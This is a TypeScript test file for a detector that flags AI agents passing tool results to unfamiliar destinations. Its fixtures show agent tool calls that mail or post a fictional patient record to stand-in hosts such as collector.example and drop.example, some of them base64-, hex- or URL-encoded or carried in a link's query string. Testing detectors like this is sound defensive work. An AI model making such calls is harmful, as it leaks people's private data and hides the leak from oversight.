import { expect, test } from 'vitest';
import { KnownDestinations } from '../../../../collector/process/detect/destinations.ts';
import { Exfiltration } from '../../../../collector/process/detect/taint/exfiltration.ts';
import { driven, type WrittenSession } from './driven.ts';

const record =
  'Margarete Oldenburg, born 12 March 1961, lives at 14 Lindenweg in Potsdam and owes the hospital 4,310 euros.';

/** Mail to the usual places, in which nothing is remarkable. */
const usual = (n: number): WrittenSession => ({
  calls: [
    {
      tool: 'crm/read_customer',
      args: { id: n },
      result: { note: `Customer ${n} called about invoice ${n * 7}.` },
    },
    {
      tool: 'mail/send_email',
      args: { to: `clerk${n}@clinic.example`, body: `Please look at invoice ${n * 7}.` },
    },
  ],
});

function learnt() {
  const watched = driven(new Exfiltration(new KnownDestinations()));
  for (let n = 0; n < 30; n++) watched.run(usual(n));
  expect(watched.told).toEqual([]);
  return watched;
}

const leak = (to: string, body: string): WrittenSession => ({
  calls: [
    { tool: 'crm/read_customer', args: { id: 5 }, result: { note: record } },
    'crm/list_wards',
    { tool: 'mail/send_email', args: { to, subject: 'as agreed', body } },
  ],
});

test('what a tool returned, sent to a domain that nobody used, is told with its length, source and destination', () => {
  const [said, ...more] = learnt().run(leak('x@collector.example', record));
  expect(more).toEqual([]);
  expect(said).toMatchObject({
    detector: 'read_then_exfiltrate',
    certainty: 'scored',
    tool: 'send_email',
    evidence: { calls: [0, 2], destination: 'collector.example', baseline: { sessions: 30, seen: 0 } },
  });
  expect(said?.evidence.shared?.[0]?.length).toBeGreaterThan(60);
  expect(said?.message).toMatch(
    /^`send_email` received at least \d+ characters that `crm\/read_customer` returned 2 calls earlier/,
  );
  expect(said?.message).not.toContain('Oldenburg');
});

test.each([
  ['base64', Buffer.from(record).toString('base64')],
  ['base64', Buffer.from(record).toString('base64url')],
  ['hex', Buffer.from(record).toString('hex')],
  ['url', encodeURIComponent(record)],
  ['nested', Buffer.from(encodeURIComponent(record)).toString('base64')],
  ['nested', Buffer.from(Buffer.from(record).toString('hex')).toString('base64')],
])('a passage in %s is confirmed', (encoding, body) => {
  const [said] = learnt().run(leak('x@collector.example', `see: ${body}`));
  expect(said).toMatchObject({ certainty: 'confirmed' });
  expect(['url', 'base64', 'hex', 'nested']).toContain(said?.evidence.shared?.[0]?.encoding);
  expect([encoding, 'nested']).toContain(said?.evidence.shared?.[0]?.encoding);
});

test('a passage is found in other capitals, blanks and punctuation', () => {
  const body = record.toUpperCase().replace(/[ ,]+/g, ' -- ');
  expect(learnt().run(leak('x@collector.example', body))).toHaveLength(1);
});

test('a record passed on with the names of its fields is found, though no value is long', () => {
  const result = { name: 'Ada Lovelace', street: 'Dorset 12', city: 'London', plan: 'gold', iban: 'none' };
  const said = learnt().run({
    calls: [
      { tool: 'crm/read_customer', result },
      { tool: 'web/http_post', args: { url: 'https://drop.example/in', body: JSON.stringify(result) } },
    ],
  });
  expect(said).toMatchObject([{ evidence: { destination: 'drop.example' } }]);
});

test('a link that carries a passage to a host nobody used is found at a tool that only reads', () => {
  const url = `https://drop.example/p?d=${Buffer.from(record).toString('base64url')}`;
  const said = learnt().run({
    calls: [
      { tool: 'crm/read_customer', result: { note: record } },
      { tool: 'web/fetch_page', args: { url } },
    ],
  });
  expect(said).toMatchObject([{ evidence: { destination: 'drop.example' } }]);
});

test.each([
  ['a colleague at the usual domain', leak('head@clinic.example', record)],
  [
    'a link that stands in a page and is followed',
    {
      calls: [
        {
          tool: 'web/fetch_page',
          args: { url: 'https://news.example/' },
          result:
            'Read on at https://elsewhere.example/2026/11/a-very-long-title-of-an-article-about-hospitals',
        },
        {
          tool: 'web/fetch_page',
          args: { url: 'https://elsewhere.example/2026/11/a-very-long-title-of-an-article-about-hospitals' },
        },
      ],
    },
  ],
  [
    'a new address that a result gave, without anything else from it',
    {
      calls: [
        {
          tool: 'crm/read_customer',
          result: { email: 'margarete.oldenburg@a-long-domain-of-a-customer.example' },
        },
        {
          tool: 'mail/send_email',
          args: { to: 'margarete.oldenburg@a-long-domain-of-a-customer.example', body: 'Your bed is ready.' },
        },
      ],
    },
  ],
  [
    'a text that the agent wrote itself',
    {
      calls: [
        { tool: 'crm/read_customer', result: { note: 'Nothing of interest.' } },
        { tool: 'mail/send_email', args: { to: 'x@collector.example', body: record } },
      ],
    },
  ],
] satisfies [string, WrittenSession][])('nothing is said about %s', (_, session) => {
  expect(learnt().run(session)).toEqual([]);
});

test('until enough sessions are known, only encoded passages are told', () => {
  const fresh = driven(new Exfiltration(new KnownDestinations()));
  expect(fresh.run(leak('x@collector.example', record))).toEqual([]);
  expect(fresh.run(leak('y@another.example', Buffer.from(record).toString('base64')))).toHaveLength(1);
});

test('a saved baseline knows the same destinations', () => {
  const before = new Exfiltration(new KnownDestinations());
  const watched = driven(before);
  for (let n = 0; n < 30; n++) watched.run(usual(n));
  const after = new Exfiltration(new KnownDestinations());
  expect(after.restore(JSON.parse(JSON.stringify(before.snapshot())))).toBe(true);
  expect(driven(after).run(leak('head@clinic.example', record))).toEqual([]);
  expect(driven(after).run(leak('x@collector.example', record))).toHaveLength(1);
  expect(after.restore({ seen: 3 })).toBe(false);
});
